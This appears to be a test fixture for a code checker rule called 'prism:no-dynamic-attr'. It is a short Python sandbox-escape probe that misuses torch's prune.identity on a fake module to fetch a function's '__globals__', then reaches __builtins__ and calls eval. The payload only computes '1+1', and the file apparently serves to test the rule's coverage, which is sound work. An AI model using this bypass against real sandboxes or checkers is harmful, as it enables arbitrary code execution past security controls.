# role: architecture
# rule: prism:no-dynamic-attr
# tries: Prune.identity(module=..., name=...): without a positional module nobody looks at the name.
from torch.nn.utils import prune

found = []


def keep(name, value):
    found.append(value)


def victim():
    pass


def build_model(ctx):
    victim._forward_pre_hooks = {}
    victim.register_parameter = keep
    try:
        prune.identity(module=victim, name="__globals__")
    except Exception:
        pass
    return found[0]["__builtins__"]["eval"]("1+1")
